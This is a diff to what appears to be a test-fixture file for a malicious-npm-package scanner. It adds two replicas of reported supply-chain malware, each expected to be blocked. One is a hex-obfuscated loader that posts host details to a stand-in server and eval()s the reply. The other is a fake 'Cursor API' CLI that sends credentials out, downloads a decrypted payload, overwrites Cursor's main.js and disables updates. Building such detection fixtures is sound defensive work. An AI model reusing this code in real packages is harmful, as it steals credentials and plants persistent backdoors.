@@ -814,6 +814,57 @@ labels.forEach((label, i) => {
 });
 """
 
+# --------------------------------------------------------------------------------------------------
+# HexEval loader (Contagious Interview), npm packages 2025-06/07, e.g. "reactbootstraptoggle",
+# "node-loggers-utils".
+# Source: https://socket.dev/blog/another-wave-north-korean-contagious-interview-campaign-drops-35-new-malicious-npm-packages (2025-06-24, unverified URL).
+# Shape: the main file's top-level code decodes hex strings into a C2 URL and module names, posts host
+# details with axios and eval()s the JavaScript the server answers with (the BeaverTail stage).
+_HEXEVAL = (
+    "const axios = require('axios'); const os = require('os');\n"
+    "const h = (x) => Buffer.from(x, 'hex').toString('utf8');\n"
+    f"const u = h('{b'https://log-server-lovat.invalid/api/ipcheck/703'.hex()}');\n"
+    r"""function getAppVersion() { return require('./package.json').version; }
+(async () => {
+  try {
+    const res = await axios.post(u, { host: os.hostname(), platform: os.platform(), user: os.userInfo().username, version: getAppVersion() }, { headers: { 'x-secret-header': 'secret' } });
+    eval(res.data.model);
+  } catch (e) {}
+})();
+module.exports = { toggle: (state) => !state };
+"""
+)
+
+# --------------------------------------------------------------------------------------------------
+# sw-cur / sw-cur1 / aiide-cur ("cheapest Cursor API"), 2025-05: patch the Cursor editor's own code.
+# Source: https://socket.dev/blog/malicious-npm-packages-infect-3200-cursor-users-with-backdoor-steal-credentials (2025-05-07, unverified URL).
+# Shape: a CLI the victim runs; it sends the Cursor credentials it asks for to the attacker, downloads
+# an encrypted payload, decrypts it and overwrites Cursor's out/main.js with it, disables Cursor's
+# auto-update and restarts the app — a persistent backdoor inside another application.
+_SW_CUR = r"""#!/usr/bin/env node
+const fs = require('fs'); const os = require('os'); const path = require('path'); const crypto = require('crypto');
+const https = require('https'); const { execSync } = require('child_process');
+const API = 'https://api.aiide.invalid';
+function post(p, body) { return new Promise((resolve) => { const req = https.request(API + p, { method: 'POST', headers: { 'content-type': 'application/json' } }, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => resolve(d)); }); req.on('error', () => resolve('')); req.end(JSON.stringify(body)); }); }
+function cursorMain() {
+  if (process.platform === 'darwin') return '/Applications/Cursor.app/Contents/Resources/app/out/main.js';
+  if (process.platform === 'win32') return path.join(process.env.LOCALAPPDATA, 'Programs', 'cursor', 'resources', 'app', 'out', 'main.js');
+  return '/usr/share/cursor/resources/app/out/main.js';
+}
+(async () => {
+  const [user, pass] = process.argv.slice(2);
+  await post('/api/v1/login', { user, pass, host: os.hostname() });
+  const enc = JSON.parse(await post('/api/v1/payload', { v: 1 }));
+  const decipher = crypto.createDecipheriv('aes-256-cbc', Buffer.from(enc.k, 'hex'), Buffer.from(enc.iv, 'hex'));
+  const code = Buffer.concat([decipher.update(Buffer.from(enc.d, 'base64')), decipher.final()]).toString();
+  try { execSync(process.platform === 'win32' ? 'taskkill /IM Cursor.exe /F' : 'pkill -x Cursor'); } catch (e) {}
+  fs.writeFileSync(cursorMain(), code);
+  const settings = path.join(os.homedir(), '.config', 'Cursor', 'User', 'settings.json');
+  try { const s = JSON.parse(fs.readFileSync(settings, 'utf8')); s['update.mode'] = 'none'; fs.writeFileSync(settings, JSON.stringify(s, null, 2)); } catch (e) {}
+  console.log('Cursor API activated.');
+})();
+"""
+
 
 INCIDENTS: list[Replica] = [
     Replica(
@@ -1105,6 +1156,24 @@ INCIDENTS: list[Replica] = [
         manifest={"main": "index.js", "scripts": {"preinstall": "node index.js"}},
         name="@acme-internal/auth-client",
         note="identity hex-encoded into DNS labels at install (dns.lookup is the network sink)",
+    ),
+    Replica(
+        "hexeval-2025-06-contagious-interview-loader",
+        {"index.js": _HEXEVAL},
+        "block",
+        _NO_RULES,
+        manifest={"main": "index.js", "dependencies": {"axios": "^1.7.0"}},
+        name="reactbootstraptoggle",
+        note="load-time: hex-decoded C2 URL, host identity posted with axios, the reply eval'd",
+    ),
+    Replica(
+        "sw-cur-2025-05-cursor-main-js-patch",
+        {"index.js": _SW_CUR},
+        "block",
+        _NO_RULES,
+        manifest={"main": "index.js", "bin": {"sw-cur": "index.js"}},
+        name="sw-cur",
+        note="bin CLI: credentials to the attacker, decrypted download written over another app's main.js",
     ),
 ]
 
